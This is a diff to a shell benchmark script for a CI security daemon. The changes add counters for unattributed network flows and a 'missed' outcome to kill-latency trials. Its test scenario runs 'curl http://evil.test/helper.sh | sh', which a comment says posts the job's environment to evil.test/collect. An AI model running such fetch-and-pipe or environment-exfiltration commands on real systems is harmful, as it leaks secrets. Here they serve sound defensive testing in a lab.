@@ -102,6 +102,7 @@ cpu_seconds() { awk -v hz="$(getconf CLK_TCK)" '{ print ($14 + $15) / hz }' "/pr
 # The peak resident set (VmHWM) of a live process, in MB.
 peak_rss_mb() { awk '/^VmHWM:/ { printf "%.1f", $2 / 1024 }' "/proc/$1/status"; }
 status_json() { "$BIN" status --json --socket "$daemon_dir/control.sock"; }
+status_counter() { status_json | python3 -c "import json,sys; print(json.load(sys.stdin)['counters']['$1'])"; }
 status_field() { status_json | python3 -c "import json,sys; d=json.load(sys.stdin); print(d['sensors'].get('$1') or 0)"; }
 # A marked GitHub job: the daemon recognises it from these variables, exactly as on a runner.
 as_job() {
@@ -132,7 +133,7 @@ measure_overhead() {
         sleep 1 # the job's last events (exits, the report) are the daemon's cost too
         sample 2 B "$round" daemon_cpu_s "$(echo "$(cpu_seconds "$daemon_pid") - $before" | bc -l)"
         sample 2 B "$round" daemon_peak_rss_mb "$(peak_rss_mb "$daemon_pid")"
-        sample 2 B "$round" daemon_events "$(status_json | python3 -c 'import json,sys; print(json.load(sys.stdin)["counters"]["events"])')"
+        sample 2 B "$round" daemon_events "$(status_counter events)"
         daemon_stop
       fi
       log "  round $round $variant: wall ${wall}s"
@@ -165,8 +166,10 @@ measure_exec_capacity() {
 }
 
 # Measurement 4: the seed scenario (curl evil.test/helper.sh | sh, which POSTs env to evil.test/collect)
-# in kill mode. Latency from the job's report: first violation (the SYN's capture time) to the job's
-# end (the daemon's receipt of its last process's exit). Payload: POST /collect bytes evil.test logged.
+# in kill mode. Latency from the job's report: its first violation's time (the capture timestamp of the
+# violating packet, a DNS query or a SYN) to its end (the daemon's receipt of the last process's exit).
+# A job that ends with no violation was missed (its flows went unattributed). Payload: the bytes of
+# POST /collect that evil.test logged during the trial.
 measure_kill() {
   local delay=$1 trials=$2 trial
   log "4: kill latency at ${delay} ms link delay, $trials trials"
@@ -174,8 +177,9 @@ measure_kill() {
   daemon_start kill
   local recv=$LAB_STATE/recv/evil.test.log
   for trial in $(seq 1 "$trials"); do
-    local run_id=bench.kill.$delay.$trial report lines_before
+    local run_id=bench.kill.$delay.$trial report lines_before unattributed0
     lines_before=$( (cat "$recv" 2>/dev/null || true) | wc -l)
+    unattributed0=$(status_counter unattributedFlows)
     as_job "$run_id" seed scripts/lab.sh exec sh -c \
       'curl -s --max-time 10 http://evil.test/helper.sh | sh' >/dev/null 2>&1 || true
     report=$daemon_dir/reports/github-$run_id-seed.json
@@ -184,25 +188,27 @@ measure_kill() {
     local bytes
     bytes=$( (tail -n +"$((lines_before + 1))" "$recv" 2>/dev/null || true) | awk '$5 == "POST" && $6 == "/collect" { s += $4 } END { print s + 0 }')
     sample 4 "delay$delay" "$trial" payload_bytes "$bytes"
+    sample 4 "delay$delay" "$trial" unattributed_flows "$(($(status_counter unattributedFlows) - unattributed0))"
     if [ -f "$report" ]; then
       python3 - "$report" "$delay" "$trial" >>"$RAW" <<'PY'
 import json, sys
 from datetime import datetime
 r = json.load(open(sys.argv[1]))
 t = lambda s: datetime.fromisoformat(s.replace("Z", "+00:00")).timestamp()
+key = f"4,delay{sys.argv[2]},{sys.argv[3]}"
 if r.get("violations") and r.get("kill") and r.get("ended"):
     v = r["violations"][0]
-    first = t(v["time"])
-    print(f"4,delay{sys.argv[2]},{sys.argv[3]},first_violation={v['kind']},1")
-    print(f"4,delay{sys.argv[2]},{sys.argv[3]},kill_latency_ms,{(t(r['ended']) - first) * 1000:.3f}")
-    print(f"4,delay{sys.argv[2]},{sys.argv[3]},kill_decision_ms,{(t(r['kill']['at']) - first) * 1000:.3f}")
+    print(f"{key},first_violation={v['kind']},1")
+    print(f"{key},kill_latency_ms,{(t(r['ended']) - t(v['time'])) * 1000:.3f}")
+    print(f"{key},killed,1")
 else:
-    print(f"4,delay{sys.argv[2]},{sys.argv[3]},not_killed,1")
+    print(f"{key},missed,1")
 PY
     else
       sample 4 "delay$delay" "$trial" no_report 1
     fi
   done
+  cp -r "$daemon_dir/reports" "$out/kill-reports-delay$delay"
   daemon_stop
   scripts/lab.sh delay 0 >/dev/null
 }
@@ -240,13 +246,13 @@ measure_replay() {
   "$BIN" replay "$work/trace.ndjson" --profiles tests/BuildSentry.EndToEnd/Profiles --memory-every 100000 \
     2>"$work/replay.err" >/dev/null
   awk '/^replay: [0-9]+ events, / { gsub(",", ""); print "6,B," $2 ",rss_mb," $11; print "6,B," $2 ",managed_mb," $8 }' "$work/replay.err" >>"$RAW"
-  awk '/events\/s\)/ { gsub("[(]", ""); print "6,B,0,events_per_s," $6 }' "$work/replay.err" >>"$RAW"
+  awk '/events\/s\)/ { gsub("[(]", ""); print "6,B,0,events_per_s," $7 }' "$work/replay.err" >>"$RAW"
 }
 
 if [ "$quick" -eq 1 ]; then
-  rounds=5 iterations=100 exec_total=6000 kill0=50 killn=20 bulk_runs=1 bulk_bytes=500000000 replay_events=1000000
+  rounds=5 iterations=100 exec_total=6000 kill0=50 killn=30 bulk_runs=1 bulk_bytes=500000000 replay_events=1000000
 else
-  rounds=5 iterations=250 exec_total=20000 kill0=200 killn=100 bulk_runs=3 bulk_bytes=2000000000 replay_events=1000000
+  rounds=5 iterations=250 exec_total=20000 kill0=200 killn=200 bulk_runs=3 bulk_bytes=2000000000 replay_events=1000000
 fi
 started=$(date +%s)
 wants 1 || wants 2 && measure_overhead "$rounds" "$iterations"
